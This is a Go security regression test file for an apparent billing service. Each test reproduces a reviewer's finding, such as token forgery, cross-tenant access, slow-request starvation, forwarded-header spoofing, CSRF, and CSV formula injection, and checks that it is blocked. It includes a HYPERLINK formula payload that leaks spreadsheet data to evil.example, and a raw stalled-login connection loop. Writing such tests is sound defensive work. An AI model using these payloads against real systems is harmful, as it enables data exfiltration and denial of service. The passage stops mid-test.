package cli

import (
	"bufio"
	"context"
	"crypto/ed25519"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stackbill/stackbill/internal/audit"
	"github.com/stackbill/stackbill/internal/auth"
	"github.com/stackbill/stackbill/internal/clock"
	"github.com/stackbill/stackbill/internal/directory"
	"github.com/stackbill/stackbill/internal/e2e"
	"github.com/stackbill/stackbill/internal/money"
	"github.com/stackbill/stackbill/internal/quarantine"
	"github.com/stackbill/stackbill/internal/registration"
	"github.com/stackbill/stackbill/internal/simulate"
	"github.com/stackbill/stackbill/internal/store/storetest"
	"github.com/stackbill/stackbill/internal/wire"
)

// The tests in this file are the independent review's reproductions, one
// each: every one failed on the main branch the review ran against.

// TestResellerCannotTakeItsProvidersStamp: Tailspin's reseller token PUT a
// registration under its own customer's subscription with a token naming
// Fabrikam's stamp's cloud, and the "move" took the stamp, its approval, its
// bridge and every tenant mapping.
func TestResellerCannotTakeItsProvidersStamp(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, backend string) {
		e := newTestEnv(t, backend)
		ctx := t.Context()
		fab := e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
		cloud := *fab.CloudID
		fabKey := regKey(W.FabrikamDefault, "azurestack", "fabrikam-stamp")
		fabrikam := auth.Principal{Role: auth.RolePartner, PartnerID: "fabrikam", TokenID: "f"}
		if _, err := e.app.Registrations.PutCustomerSubscription(ctx, fabrikam, fabKey, W.Relecloud.Subscription, W.Relecloud.Tenant, registration.Precondition{}); err != nil {
			t.Fatal(err)
		}
		op := auth.Principal{Role: auth.RoleOperator, TokenID: "t"}
		reg, _ := e.app.Registrations.Get(ctx, op, fabKey)
		bridgeTok, err := e.app.Auth.CreateBridge(ctx, "test", "fabrikam", reg.UID, "fabrikam bridge")
		if err != nil {
			t.Fatal(err)
		}
		grab := regsPath(W.Proseware.Subscription) + "/grab?api-version=2017-06-01"
		put := func(token string) (int, string, string) {
			resp, body := e.raw("PUT", grab, e.tokens["tailspin"], "application/json", strings.NewReader(`{"location":"global","properties":{"registrationToken":"`+token+`"}}`))
			return resp.StatusCode, errCode(body), body
		}
		// 1. The review's token: base64 JSON carrying nothing but the cloudId.
		unsigned := base64.StdEncoding.EncodeToString([]byte(`{"cloudId":"` + cloud + `","objectId":"` + randomGUID() + `","billingModel":"PayAsYouUse"}`))
		if st, code, body := put(unsigned); st != 400 || code != "InvalidRegistrationToken" {
			t.Fatalf("an unsigned token for Fabrikam's cloud: %d %s", st, body)
		}
		// 2. A token the attacker signed itself for that cloud.
		_, own, _ := ed25519.GenerateKey(nil)
		forged := registration.Token{CloudID: cloud, ObjectID: randomGUID(), BillingModel: registration.PayAsYouUse}.Sign(own)
		if st, code, body := put(forged); st != 400 || code != "InvalidRegistrationToken" || !strings.Contains(body, "not signed by the stack of cloud") {
			t.Fatalf("a token signed by another key: %d %s", st, body)
		}
		// 3. Fabrikam's stack's own token, leaked: the move needs the right to
		// manage the registration it moves, and the answer names nothing
		// of Fabrikam's.
		leaked := *registrationToken(cloud, registration.PayAsYouUse, "")
		st, code, body := put(leaked)
		if st != 400 || code != "RegistrationMoveNotAllowed" || strings.Contains(body, W.FabrikamDefault) || strings.Contains(body, "fabrikam-stamp") {
			t.Fatalf("a leaked token: %d %s", st, body)
		}
		// Nothing moved: Fabrikam's registration, mapping and bridge stand,
		// and Tailspin has no stamp to take an activation key of.
		if resp, body := e.raw("GET", regsPath(W.FabrikamDefault)+"/fabrikam-stamp?api-version=2017-06-01", e.tokens["fabrikam"], "", nil); resp.StatusCode != 200 || !strings.Contains(body, cloud) {
			t.Fatalf("Fabrikam's registration after the attempts: %d %s", resp.StatusCode, body)
		}
		if m, err := e.app.Registrations.Mappings(ctx, reg.UID); err != nil || len(m) != 1 || !m[0].To.IsZero() {
			t.Fatalf("Fabrikam's mappings: %+v %v", m, err)
		}
		if p, err := e.app.Auth.Authenticate(ctx, bridgeTok); err != nil || p.RegistrationUID != reg.UID {
			t.Fatalf("Fabrikam's bridge credential: %+v %v", p, err)
		}
		if resp, _ := e.raw("POST", regsPath(W.Proseware.Subscription)+"/grab/getactivationkey?api-version=2017-06-01", e.tokens["tailspin"], "", nil); resp.StatusCode != 404 {
			t.Fatalf("Tailspin's activation key: %d", resp.StatusCode)
		}
		// Each refusal is in the audit log, in Tailspin's scope.
		refusals, _ := audit.List(ctx, e.app.DB, audit.Query{Scopes: []string{"tailspin"}, Kind: "refusal", ID: "Registrations_CreateOrUpdate"})
		if len(refusals) != 3 || !strings.Contains(string(refusals[2].After), "RegistrationMoveNotAllowed") || refusals[2].Actor != "reseller:tailspin/"+strings.Split(e.tokens["tailspin"], "_")[1] {
			t.Fatalf("audited refusals: %d, last %s by %s", len(refusals), refusals[len(refusals)-1].After, refusals[len(refusals)-1].Actor)
		}
		// The provider itself may still move its stamp between subscriptions
		// it manages (here, a reseller's customer's): a legitimate move.
		resp, body := e.raw("PUT", regsPath(W.Proseware.Subscription)+"/moved?api-version=2017-06-01", e.tokens["fabrikam"], "application/json",
			strings.NewReader(`{"location":"global","properties":{"registrationToken":"`+leaked+`"}}`))
		if resp.StatusCode != 201 {
			t.Fatalf("the provider's own move: %d %s", resp.StatusCode, body)
		}
		// A reseller can never move a stamp that holds a sibling's customer.
		if resp, _ := e.raw("GET", regsPath(W.FabrikamDefault)+"/fabrikam-stamp?api-version=2017-06-01", e.tokens["fabrikam"], "", nil); resp.StatusCode != 404 {
			t.Fatalf("the moved registration still answers at its old place: %d", resp.StatusCode)
		}
		resp, body = e.raw("PUT", regsPath(W.Proseware.Subscription)+"/back?api-version=2017-06-01", e.tokens["tailspin"], "application/json",
			strings.NewReader(`{"location":"global","properties":{"registrationToken":"`+leaked+`"}}`))
		if resp.StatusCode != 403 || errCode(body) != "AuthorizationFailed" {
			t.Fatalf("a reseller moving a stamp with another reseller's mapping: %d %s", resp.StatusCode, body)
		}
	})
}

// TestResellerCannotTouchAnotherResellersMappings: when a provider mapped a
// Wingtip customer onto a registration Tailspin manages, Tailspin could read,
// list and delete that mapping.
func TestResellerCannotTouchAnotherResellersMappings(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, backend string) {
		e := newTestEnv(t, backend)
		ctx := t.Context()
		e.createRegistration(W.Proseware.Subscription, "azurestack", "tailspin-stamp", registration.PayAsYouUse, true)
		fabrikam := auth.Principal{Role: auth.RolePartner, PartnerID: "fabrikam", TokenID: "f"}
		k := regKey(W.Proseware.Subscription, "azurestack", "tailspin-stamp")
		for _, c := range []storetest.Customer{W.Relecloud, W.Proseware} {
			if _, err := e.app.Registrations.PutCustomerSubscription(ctx, fabrikam, k, c.Subscription, c.Tenant, registration.Precondition{}); err != nil {
				t.Fatal(err)
			}
		}
		base := regsPath(W.Proseware.Subscription) + "/tailspin-stamp/customerSubscriptions"
		tail := e.tokens["tailspin"]
		if resp, body := e.raw("GET", base+"/"+W.Relecloud.Subscription+"?api-version=2017-06-01", tail, "", nil); resp.StatusCode != 404 || errCode(body) != "CustomerSubscriptionNotFound" {
			t.Fatalf("GET: %d %s", resp.StatusCode, body)
		}
		if resp, body := e.raw("GET", base+"?api-version=2017-06-01", tail, "", nil); resp.StatusCode != 200 || strings.Contains(body, W.Relecloud.Subscription) || !strings.Contains(body, W.Proseware.Subscription) {
			t.Fatalf("LIST: %d %s", resp.StatusCode, body)
		}
		if resp, body := e.raw("DELETE", base+"/"+W.Relecloud.Subscription+"?api-version=2017-06-01", tail, "", nil); resp.StatusCode != 404 {
			t.Fatalf("DELETE: %d %s", resp.StatusCode, body)
		}
		if resp, body := e.raw("DELETE", regsPath(W.Proseware.Subscription)+"/tailspin-stamp?api-version=2017-06-01", tail, "", nil); resp.StatusCode != 403 {
			t.Fatalf("deleting the registration that holds it: %d %s", resp.StatusCode, body)
		}
		if _, err := e.app.Registrations.GetCustomerSubscription(ctx, fabrikam, k, W.Relecloud.Subscription); err != nil {
			t.Fatalf("Wingtip's mapping after Tailspin's attempts: %v", err)
		}
	})
}

// TestOneUsageWriterCannotStopUsageForEveryone: two events of 40 nines for
// one subscription, meter, resource and hour, then a third, were accepted;
// aggregation then failed every second, and once the hour closed the usage
// APIs of every subscription, the bridge's status and forwarding answered
// 500.
func TestOneUsageWriterCannotStopUsageForEveryone(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, backend string) {
		day := time.Date(2026, 3, 9, 0, 0, 0, 0, time.UTC)
		se := newStackEnv(t, backend, day.Add(30*time.Minute))
		victim, attacker, tenant := randomGUID(), randomGUID(), randomGUID()
		se.onboard(t, tenant, victim, "")
		se.onboard(t, randomGUID(), attacker, "")
		writer, _, _ := se.app.Auth.Create(context.Background(), auth.RoleUsageWriter, "", "", "", 0)
		ev := func(id, sub, qty string) string {
			return fmt.Sprintf(`{"id":%q,"subscriptionId":%q,"meterId":%q,"quantity":%s,"startTime":"%s","endTime":"%s","resourceUri":"/r/vm1"}`,
				id, sub, simulate.MeterBaseVM, qty, day.Format(time.RFC3339), day.Format(time.RFC3339))
		}
		post := func(lines ...string) usageResult {
			resp, body := se.raw("POST", "/v1/usage/events", writer, "application/x-ndjson", strings.NewReader(strings.Join(lines, "\n")))
			var res usageResult
			if resp.StatusCode != 200 || json.Unmarshal([]byte(body), &res) != nil {
				t.Fatalf("intake: %d %s", resp.StatusCode, body)
			}
			return res
		}
		nines := strings.Repeat("9", 40)
		if res := post(ev("a", attacker, nines), ev("b", attacker, nines), ev("v", victim, "2")); res.Accepted != 1 || len(res.Rejected) != 2 ||
			!strings.Contains(res.Rejected[0].Reason, "above the bound") {
			t.Fatalf("40 nines: %+v", res)
		}
		if res := post(ev("c", attacker, nines)); res.Accepted != 0 {
			t.Fatalf("the third: %+v", res)
		}
		// The worst a writer can still send: events at the bound, enough of
		// them across requests to push one record past its bound. The
		// request that would overflow alone is refused; across requests,
		// aggregation holds what does not fit.
		big := money.MaxEventQuantity.String()
		var batch []string
		for i := 0; i < 1001; i++ {
			batch = append(batch, ev(fmt.Sprintf("big-%d", i), attacker, big))
		}
		if res := post(batch...); res.Accepted != 1000 || len(res.Rejected) != 1 || !strings.Contains(res.Rejected[0].Reason, "past the bound") {
			t.Fatalf("one request past the bound: accepted %d, rejected %+v", res.Accepted, res.Rejected)
		}
		batch = batch[:0]
		for i := 0; i < 5; i++ {
			batch = append(batch, ev(fmt.Sprintf("more-%d", i), attacker, big))
		}
		if res := post(batch...); res.Accepted != 5 {
			t.Fatalf("the next request: %+v", res)
		}
		post(ev("v2", victim, "3"))
		se.clk.Advance(time.Hour)
		// Everyone else's usage reads as before; the attacker's record holds
		// exactly its bound; what did not fit is in quarantine.
		for sub, want := range map[string]string{victim: "5", attacker: money.MaxRecordQuantity.String()} {
			resp, body := se.raw("GET", "/subscriptions/"+sub+"/providers/Microsoft.Commerce/UsageAggregates?api-version=2015-06-01-preview&aggregationGranularity=Hourly&reportedStartTime="+
				day.Format(time.RFC3339)+"&reportedEndTime="+day.Add(time.Hour).Format(time.RFC3339), se.operator, "", nil)
			if resp.StatusCode != 200 || !strings.Contains(body, `"quantity":`+want) {
				t.Fatalf("usage of %s: %d %.400s", sub, resp.StatusCode, body)
			}
		}
		if resp, body := se.raw("GET", "/v1/stack/bridge", se.operator, "", nil); resp.StatusCode != 200 || !strings.Contains(body, `"quarantinedRecords":5`) {
			t.Fatalf("bridge status: %d %s", resp.StatusCode, body)
		}
		items, err := se.app.Quarantine.List(context.Background(), auth.Principal{Role: auth.RoleOperator}, quarantine.Query{Open: true})
		if err != nil || len(items) != 5 || items[0].SubscriptionID != attacker || !strings.Contains(items[0].Reason, "exceed the bound") {
			t.Fatalf("quarantine: %+v %v", items, err)
		}
		// A restart changes nothing: the log is empty, nothing waits.
		if n := se.app.Usage.Backlog(); n != 0 {
			t.Fatalf("backlog after settling: %d", n)
		}
	})
}

type usageResult struct {
	Accepted int `json:"accepted"`
	Rejected []struct {
		Index  int    `json:"index"`
		Reason string `json:"reason"`
	} `json:"rejected"`
}

// TestOneStackCannotEraseAnothersUsage: record IDs were a predictable hash
// deduplicated across all registrations, so Contoso's bridge pushed three
// IDs of Fabrikam's open hour with quantity 0, and Fabrikam's real records
// were then dropped as duplicates. The answer also told Contoso whether
// Fabrikam's records existed.
func TestOneStackCannotEraseAnothersUsage(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, backend string) {
		e := newTestEnv(t, backend)
		ctx := t.Context()
		op := auth.Principal{Role: auth.RoleOperator, TokenID: "t"}
		e.createRegistration(W.ContosoDefault, "azurestack", "contoso-stamp", registration.PayAsYouUse, true)
		e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
		con, _ := e.app.Registrations.Get(ctx, op, regKey(W.ContosoDefault, "azurestack", "contoso-stamp"))
		fab, _ := e.app.Registrations.Get(ctx, op, regKey(W.FabrikamDefault, "azurestack", "fabrikam-stamp"))
		conTok, _ := e.app.Auth.CreateBridge(ctx, "test", "contoso", con.UID, "contoso")
		fabTok, _ := e.app.Auth.CreateBridge(ctx, "test", "fabrikam", fab.UID, "fabrikam")
		hour := clock.HourStart(e.app.Clock.Now()).Add(-2 * time.Hour)
		sub := randomGUID()
		var real []wire.Record
		for i := 0; i < 3; i++ {
			r := wire.Record{SubscriptionID: sub, TenantID: randomGUID(), MeterID: simulate.MeterBaseVM, Quantity: money.FromInt(int64(10 + i)),
				UsageHour: hour, ReportedHour: hour.Add(time.Hour), ResourceURI: fmt.Sprintf("/r/vm%d", i), Location: "local"}
			r.SetID(fab.CloudID)
			real = append(real, r)
		}
		post := func(tok, cloud string, recs []wire.Record) (int, string) {
			b, _ := json.Marshal(wire.Batch{CloudID: cloud, Records: recs})
			resp, body := e.raw("POST", "/v1/bridge/usage", tok, "application/json", strings.NewReader(string(b)))
			return resp.StatusCode, body
		}
		// Contoso pushes Fabrikam's IDs with quantity 0 under its own cloud.
		fake := append([]wire.Record(nil), real...)
		for i := range fake {
			fake[i].Quantity = money.Zero
		}
		st, body := post(conTok, con.CloudID, fake)
		if st != 400 || !strings.Contains(body, "records[0].id") {
			t.Fatalf("another stack's record IDs: %d %s", st, body)
		}
		// Fabrikam's stack forwards its hour: every record counts.
		st, body = post(fabTok, fab.CloudID, real)
		if st != 200 || !strings.Contains(body, `"accepted":3`) {
			t.Fatalf("Fabrikam's own records: %d %s", st, body)
		}
		totals, err := e.app.Ledger.Totals(ctx, []string{W.FabrikamDefault}, hour, hour.Add(time.Hour))
		if err != nil || len(totals) != 1 || totals[0].Quantity.String() != "33" {
			t.Fatalf("Fabrikam's forwarded usage: %+v %v", totals, err)
		}
		// And Contoso cannot probe them: the same answer as for IDs of
		// records that never existed.
		ghost := append([]wire.Record(nil), real...)
		for i := range ghost {
			ghost[i].ResourceURI += "-never"
			ghost[i].SetID(fab.CloudID)
		}
		_, probeReal := post(conTok, con.CloudID, fake)
		_, probeGhost := post(conTok, con.CloudID, ghost)
		if errCode(probeReal) != errCode(probeGhost) || !strings.Contains(probeGhost, "records[0].id") {
			t.Fatalf("probing another stack's records: %s vs %s", probeReal, probeGhost)
		}
	})
}

// TestHugeForwardedQuantitiesCannotBreakBilling: 300 records of 40 nines
// were accepted; after finalization, invoice lists, the period view, a
// repeated finalize and another partner's reconciliation file answered 500.
func TestHugeForwardedQuantitiesCannotBreakBilling(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, backend string) {
		t0 := time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)
		clk := clock.Manual(t0)
		e := newTestEnv(t, backend, func(o *Options) { o.Clock = clk })
		ctx := t.Context()
		op := auth.Principal{Role: auth.RoleOperator, TokenID: "t"}
		if _, err := e.app.Billing.ImportPriceList(ctx, op, "huge", []byte(testPriceListUSD), time.Time{}); err != nil {
			t.Fatal(err)
		}
		e.createRegistration(W.ContosoDefault, "azurestack", "contoso-stamp", registration.PayAsYouUse, true)
		e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
		con, _ := e.app.Registrations.Get(ctx, op, regKey(W.ContosoDefault, "azurestack", "contoso-stamp"))
		fab, _ := e.app.Registrations.Get(ctx, op, regKey(W.FabrikamDefault, "azurestack", "fabrikam-stamp"))
		conTok, _ := e.app.Auth.CreateBridge(ctx, "test", "contoso", con.UID, "contoso")
		hour := t0.Add(5 * time.Hour)
		clk.Set(hour.Add(2 * time.Hour))
		records := func(qty string) []byte {
			var recs []wire.Record
			for i := 0; i < 300; i++ {
				r := wire.Record{SubscriptionID: randomGUID(), TenantID: randomGUID(), MeterID: simulate.MeterBaseVM, Quantity: money.MustQuantity(qty),
					UsageHour: hour, ReportedHour: hour.Add(time.Hour), ResourceURI: fmt.Sprintf("/r/%d", i), Location: "local"}
				r.SetID(con.CloudID)
				recs = append(recs, r)
			}
			b, _ := json.Marshal(wire.Batch{CloudID: con.CloudID, Records: recs})
			return b
		}
		resp, body := e.raw("POST", "/v1/bridge/usage", conTok, "application/json", strings.NewReader(string(records(strings.Repeat("9", 40)))))
		if resp.StatusCode != 400 || !strings.Contains(body, "is not between 0 and") {
			t.Fatalf("40 nines: %d %.300s", resp.StatusCode, body)
		}
		// The largest a stack can send is taken and billed.
		resp, body = e.raw("POST", "/v1/bridge/usage", conTok, "application/json", strings.NewReader(string(records(money.MaxRecordQuantity.String()))))
		if resp.StatusCode != 200 || !strings.Contains(body, `"accepted":300`) {
			t.Fatalf("records at the bound: %d %.300s", resp.StatusCode, body)
		}
		// Fabrikam has ordinary usage.
		rec := wire.Record{SubscriptionID: randomGUID(), TenantID: randomGUID(), MeterID: simulate.MeterBaseVM, Quantity: money.FromInt(5),
			UsageHour: hour, ReportedHour: hour.Add(time.Hour), ResourceURI: "/r/f", Location: "local"}
		rec.SetID(fab.CloudID)
		if _, err := e.app.Ingestor.Ingest(ctx, auth.Principal{Role: auth.RoleBridge, RegistrationUID: fab.UID, TokenID: "b"}, wire.Batch{CloudID: fab.CloudID, Records: []wire.Record{rec}}); err != nil {
			t.Fatal(err)
		}
		clk.Set(time.Date(2026, 11, 3, 0, 0, 0, 0, time.UTC))
		for _, c := range []struct{ method, path string }{
			{"POST", "/v1/billing/periods/2026-10/finalize"},
			{"POST", "/v1/billing/periods/2026-10/finalize"},
			{"GET", "/v1/billing/periods/2026-10"},
			{"GET", "/v1/billing/invoices?period=2026-10"},
			{"GET", "/v1/billing/invoices/SB-202610-contoso"},
			{"GET", "/v1/billing/invoices/SB-202610-contoso?format=csv"},
			{"GET", "/v1/billing/reconciliation?partner=fabrikam&period=2026-10"},
			{"GET", "/v1/billing/reconciliation?partner=contoso&period=2026-10"},
			{"GET", "/v1/billing/statements/contoso?period=2026-10"},
		} {
			resp, body := e.raw(c.method, c.path, e.operator, "", nil)
			if resp.StatusCode != 200 || len(body) < 10 {
				t.Fatalf("%s %s: %d %.300s", c.method, c.path, resp.StatusCode, body)
			}
		}
		// The invoice bills exactly 300 × the bound × the price.
		inv, err := e.app.Billing.Invoice(ctx, op, "SB-202610-contoso")
		if err != nil {
			t.Fatal(err)
		}
		want := money.MaxRecordQuantity.Mul(money.FromInt(300))
		got := money.Zero
		for _, sec := range inv.Sections {
			for _, l := range sec.Lines {
				got = got.Add(l.Quantity)
			}
		}
		if !got.Equal(want) || inv.Total.Sign() <= 0 {
			t.Fatalf("invoice quantity %s (total %s), want %s", got, inv.Total, want)
		}
	})
}

// TestAnonymousClientsCannotStarveCallers: POST /portal/login took one of
// the 512 request slots before any authentication and then waited for its
// body until the read timeout; 520 slow sign-ins made the operator's API
// answer 429.
func TestAnonymousClientsCannotStarveCallers(t *testing.T) {
	t.Parallel()
	app := buildApp(t, Options{DB: storetest.DSN(t, "sqlite"), OperatorToken: "op", MaxInflight: 16, MaxAnonInflight: 4, AnonBodyTimeout: time.Second, Logger: storetest.Logger()})
	srv := httptest.NewServer(app.Handler)
	defer srv.Close()
	addr := strings.TrimPrefix(srv.URL, "http://")
	// Forty slow sign-ins: headers sent, a body promised and never sent.
	var conns []net.Conn
	for i := 0; i < 40; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		conns = append(conns, c)
		fmt.Fprintf(c, "POST /portal/login HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\ntoken=", addr)
	}
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	time.Sleep(200 * time.Millisecond)
	// The operator is served at once.
	for i := 0; i < 20; i++ {
		req, _ := http.NewRequest("GET", srv.URL+"/v1/whoami", nil)
		req.Header.Set("Authorization", "Bearer op")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Fatalf("the operator while sign-ins stall: %d", resp.StatusCode)
		}
	}
	// The stalled sign-ins are cut off by their short deadline, not the
	// server's long read timeout: each connection is answered or closed.
	deadline := time.Now().Add(5 * time.Second)
	for _, c := range conns {
		_ = c.SetReadDeadline(deadline)
		line, err := bufio.NewReader(c).ReadString('\n')
		if err == nil && !strings.HasPrefix(line, "HTTP/1.1 4") && !strings.HasPrefix(line, "HTTP/1.1 5") {
			t.Fatalf("a stalled sign-in was answered %q", line)
		}
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			t.Fatal("a stalled sign-in was still held after 5 s")
		}
	}
}

// TestForwardedHeadersNeedATrustedProxy: X-Forwarded-Host from anyone set
// the host of nextLinks and of the usage endpoint signed into activation
// keys.
func TestForwardedHeadersNeedATrustedProxy(t *testing.T) {
	t.Parallel()
	ctx := t.Context()
	for _, c := range []struct {
		name    string
		mutate  func(*Options)
		want    string
		wantNot string
	}{
		{"untrusted", func(*Options) {}, "http://127.0.0.1", "evil.example"},
		{"trusted proxy", func(o *Options) { o.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")} }, "https://evil.example", ""},
		{"public URL", func(o *Options) {
			o.PublicURL = "https://billing.example.com"
			o.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}
		}, "https://billing.example.com", "evil.example"},
	} {
		e := newTestEnv(t, "sqlite", c.mutate)
		e.createRegistration(W.ContosoDefault, "azurestack", "a", registration.PayAsYouUse, true)
		e.createRegistration(W.ContosoDefault, "azurestack", "b", registration.PayAsYouUse, true)
		e.createRegistration(W.ContosoDefault, "azurestack", "c", registration.PayAsYouUse, true)
		hdr := []string{"X-Forwarded-Host", "evil.example", "X-Forwarded-Proto", "https"}
		_, list := e.raw("GET", regsPath(W.ContosoDefault)+"?api-version=2017-06-01", e.tokens["contoso"], "", nil, hdr...)
		_, key := e.raw("POST", regsPath(W.ContosoDefault)+"/a/getactivationkey?api-version=2017-06-01", e.tokens["contoso"], "", nil, hdr...)
		var k struct {
			ActivationKey string `json:"activationKey"`
		}
		_ = json.Unmarshal([]byte(key), &k)
		endpoint := claimValue(t, k.ActivationKey, "usageEndpoint")
		if !strings.Contains(list, `"nextLink":"`+c.want) || !strings.HasPrefix(endpoint, c.want) || (c.wantNot != "" && (strings.Contains(list, c.wantNot) || strings.Contains(endpoint, c.wantNot))) {
			t.Errorf("%s: nextLink in %.300s, usage endpoint %s; want %s", c.name, list, endpoint, c.want)
		}
		_ = ctx
	}
}

// TestPortalSessions: sign-in and sign-out took cross-site POSTs without a
// CSRF field, the session cookie held the raw, long-lived API token, and it
// was Secure only when stackbill itself terminated TLS.
func TestPortalSessions(t *testing.T) {
	t.Parallel()
	e := newTestEnv(t, "sqlite", func(o *Options) { o.PublicURL = "https://billing.example.com" })
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	// A cross-site form post carries no CSRF field (nor the form's cookie).
	resp, err := c.PostForm(e.url+"/portal/login", url.Values{"token": {e.tokens["contoso"]}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 403 || len(resp.Cookies()) != 1 || resp.Cookies()[0].Name != "stackbill_login" {
		t.Fatalf("a sign-in without the form's CSRF field: %d %v", resp.StatusCode, resp.Cookies())
	}
	resp = postLogin(t, c, e.url, url.Values{"token": {e.tokens["contoso"]}})
	var session *http.Cookie
	for _, ck := range resp.Cookies() {
		if ck.Name == "stackbill_session" {
			session = ck
		}
	}
	if resp.StatusCode != 303 || session == nil {
		t.Fatalf("sign-in: %d %v", resp.StatusCode, resp.Cookies())
	}
	if strings.Contains(session.Value, "sbk_") || strings.Contains(e.tokens["contoso"], session.Value) || !session.Secure || !session.HttpOnly || session.SameSite != http.SameSiteStrictMode {
		t.Fatalf("the session cookie: %+v", session)
	}
	// The cookie opens pages, and it is not a bearer token for the API.
	if resp, _ := e2e.Call(t, c, "GET", e.url+"/portal/customers", "", "", nil); resp.StatusCode != 200 {
		t.Fatalf("a page with the session: %d", resp.StatusCode)
	}
	req, _ := http.NewRequest("GET", e.url+"/v1/whoami", nil)
	req.AddCookie(&http.Cookie{Name: "stackbill_session", Value: session.Value})
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != 401 {
		t.Fatalf("the cookie on the API: %v %v", resp.StatusCode, err)
	}
	// Sign-out needs the session's CSRF field.
	resp, err = c.PostForm(e.url+"/portal/logout", url.Values{})
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 403 || !strings.Contains(string(body), "InvalidCsrfToken") {
		t.Fatalf("a sign-out without CSRF: %d", resp.StatusCode)
	}
	if resp, _ := e2e.Call(t, c, "GET", e.url+"/portal/customers", "", "", nil); resp.StatusCode != 200 {
		t.Fatalf("the session after a refused sign-out: %d", resp.StatusCode)
	}
	// Revoking the token ends its sessions at once.
	p, _ := e.app.Auth.Authenticate(context.Background(), e.tokens["contoso"])
	if err := e.app.Auth.Revoke(context.Background(), p.TokenID); err != nil {
		t.Fatal(err)
	}
	resp, err = c.Get(e.url + "/portal/customers")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 303 || !strings.HasPrefix(resp.Header.Get("Location"), "/portal/login") {
		t.Fatalf("a page after the token was revoked: %d %s", resp.StatusCode, resp.Header.Get("Location"))
	}
}

// TestExportsAreSafeInASpreadsheet: CSV exports carried customer names that
// begin with =, +, - or @ unescaped, which a spreadsheet runs as formulas.
func TestExportsAreSafeInASpreadsheet(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, backend string) {
		w := newBillingWorld(t, backend)
		ctx := t.Context()
		evil := `=HYPERLINK("http://evil.example/?"&A1,"Adatum")`
		if _, _, err := w.env.app.Directory.PutCustomer(ctx, w.op, directory.Customer{TenantID: W.Adatum.Tenant, Name: evil, Partner: "contoso"}); err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{"/v1/billing/invoices/SB-202610-contoso?format=csv", "/v1/billing/reconciliation?partner=contoso&period=2026-10",
			"/v1/billing/statements/contoso?period=2026-10&format=csv"} {
			resp, body := w.env.raw("GET", path, w.env.tokens["contoso"], "", nil)
			if resp.StatusCode != 200 {
				t.Fatalf("%s: %d %s", path, resp.StatusCode, body)
			}
			if !strings.Contains(body, "HYPERLINK") {
				t.Fatalf("%s does not show the customer at all", path)
			}
			for _, line := range strings.Split(body, "\n") {
				for _, cell := range strings.Split(line, ",") {
					cell = strings.TrimPrefix(cell, `"`)
					if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
						t.Fatalf("%s has a cell a spreadsheet would run: %q", path, cell)
					}
				}
			}
		}
	})
}

// TestCredentialsAndTenancyAreAudited: bridge credentials issued by
// getactivationkey were recorded as "stackbill (database)" without scope,
// revoking the previous one was not recorded, and stack tenancy changes
// were not audited at all.
func TestCredentialsAndTenancyAreAudited(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, backend string) {
		e := newTestEnv(t, backend)
		ctx := t.Context()
		e.createRegistration(W.FabrikamDefault, "azurestack", "fabrikam-stamp", registration.PayAsYouUse, true)
		for i := 0; i < 2; i++ {
			if resp, body := e.raw("POST", regsPath(W.FabrikamDefault)+"/fabrikam-stamp/getactivationkey?api-version=2017-06-01", e.tokens["fabrikam"], "", nil); resp.StatusCode != 200 {
				t.Fatalf("activation key: %d %s", resp.StatusCode, body)
			}
		}
		recs, err := audit.List(ctx, e.app.DB, audit.Query{Scopes: []string{"fabrikam"}, Kind: "token"})
		if err != nil {
			t.Fatal(err)
		}
		var created, revoked int
		for _, r := range recs {
			if !strings.Contains(string(r.After), `"role":"bridge"`) && !strings.Contains(string(r.After), "superseded") {
				continue // the test's own partner token
			}
			if !strings.HasPrefix(r.Actor, "partner:fabrikam/") {
				t.Errorf("%s recorded as %q", r.Action, r.Actor)
			}
			switch r.Action {
			case "token.create":
				created++
			case "token.revoke":
				revoked++
				if !strings.Contains(string(r.After), "superseded") {
					t.Errorf("revocation without its reason: %s", r.After)
				}
			}
		}
		if created != 2 || revoked != 1 {
			t.Fatalf("fabrikam sees %d issued and %d revoked bridge credentials, want 2 and 1", created, revoked)
		}
		// Tenancy: onboarding a directory and creating, changing and
		// deleting a subscription are each one record.
		sop, _, _ := e.app.Auth.Create(ctx, auth.RoleStackOperator, "", "", "", 0)
		prov := e.app.Tenancy.Provider()
		tenant, sub := randomGUID(), randomGUID()
		for _, c := range []struct{ method, path, body string }{
